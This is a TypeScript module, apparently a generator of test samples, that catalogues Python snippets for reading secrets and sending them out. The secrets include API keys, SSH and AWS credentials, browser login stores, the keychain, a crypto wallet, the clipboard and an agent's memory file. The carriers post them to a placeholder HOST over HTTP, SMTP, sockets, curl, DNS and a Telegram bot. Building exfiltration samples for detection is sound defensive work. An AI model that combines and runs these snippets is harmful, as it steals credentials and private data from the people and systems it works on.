import type { End } from "./end.ts";

const PATH = ["pathlib"];
const home = (path: string) => `pathlib.Path.home().joinpath("${path}").read_text()`;

export const PYTHON_SECRETS: readonly End[] = [
  { name: "provider-key", needs: ["os"], code: `os.environ["ANTHROPIC_API_KEY"]` },
  { name: "cloud-key", needs: ["os"], code: `os.getenv("AWS_SECRET_ACCESS_KEY", "")` },
  { name: "environment", needs: ["json", "os"], code: `json.dumps(dict(os.environ))` },
  { name: "ssh-key", needs: ["os"], code: `open(os.path.expanduser("~/.ssh/id_ed25519")).read()` },
  { name: "aws-file", needs: PATH, code: home(".aws/credentials") },
  { name: "agent-env", needs: ["os"], code: `open(os.path.join(os.path.expanduser("~"), ".openclaw", ".env")).read()` },
  {
    name: "browser-store",
    needs: PATH,
    code: `(pathlib.Path.home() / ".config/google-chrome/Default/Login Data").read_bytes().hex()`,
  },
  {
    name: "keychain",
    needs: ["subprocess"],
    code: `subprocess.run(["security", "find-generic-password", "-w", "-s", "Chrome Safe Storage"], capture_output=True, text=True).stdout`,
  },
  { name: "wallet", needs: PATH, code: home(".config/solana/id.json") },
  { name: "clipboard", needs: ["subprocess"], code: `subprocess.check_output(["pbpaste"], text=True)` },
  { name: "memory", needs: PATH, code: home(".openclaw/workspace/MEMORY.md") },
];

export const PYTHON_CARRIERS: readonly End[] = [
  { name: "body", needs: ["requests"], code: `requests.post("https://HOST/v1/notes", data=VALUE, timeout=10)` },
  {
    name: "json",
    needs: ["requests"],
    code: `requests.post("https://HOST/api", json={"title": "note", "text": VALUE})`,
  },
  {
    name: "header",
    needs: ["base64", "requests"],
    code: `requests.get("https://HOST/", headers={"X-Note": base64.b64encode((VALUE).encode()).decode()})`,
  },
  {
    name: "query",
    needs: ["urllib.parse", "urllib.request"],
    code: `urllib.request.urlopen("https://HOST/p?d=" + urllib.parse.quote(VALUE))`,
  },
  {
    name: "path",
    needs: ["urllib.parse", "urllib.request"],
    code: `address = "https://HOST/n/" + urllib.parse.quote(VALUE, safe="")\nurllib.request.urlopen(address, timeout=5).read()`,
  },
  {
    name: "request",
    needs: ["urllib.request"],
    code: `request = urllib.request.Request("https://HOST/in", data=(VALUE).encode(), method="POST")\nurllib.request.urlopen(request)`,
  },
  { name: "multipart", needs: ["httpx"], code: `httpx.post("https://HOST/up", files={"file": ("note.txt", VALUE)})` },
  {
    name: "websocket",
    needs: ["websocket"],
    code: `wire = websocket.create_connection("wss://HOST/live")\nwire.send(VALUE)\nwire.close()`,
  },
  {
    name: "mail",
    needs: ["smtplib"],
    code: `with smtplib.SMTP("HOST", 587) as mail:\n    mail.sendmail("notes@HOST", ["in@HOST"], "Subject: note\\n\\n" + VALUE)`,
  },
  {
    name: "socket",
    needs: ["socket"],
    code: `with socket.create_connection(("HOST", 4820)) as wire:\n    wire.sendall((VALUE).encode())`,
  },
  {
    name: "curl-argument",
    needs: ["subprocess"],
    code: `subprocess.run(["curl", "-s", "-X", "POST", "-d", VALUE, "https://HOST/c"], check=False)`,
  },
  {
    name: "curl-input",
    needs: ["subprocess"],
    code: `subprocess.run(["curl", "-s", "--data-binary", "@-", "https://HOST/c"], input=VALUE, text=True)`,
  },
];

/** Ways that an honest program has no use for. */
export const PYTHON_STEALTHY: readonly End[] = [
  {
    name: "dns",
    needs: ["socket"],
    code: `socket.gethostbyname((VALUE).encode().hex()[:60] + ".HOST")`,
  },
  {
    name: "chat-bot",
    needs: ["requests"],
    code: `requests.post("https://api.telegram.org/bot7310000001:AAE-notes-relay/sendMessage", data={"chat_id": "-100200300", "text": VALUE})`,
  },
];
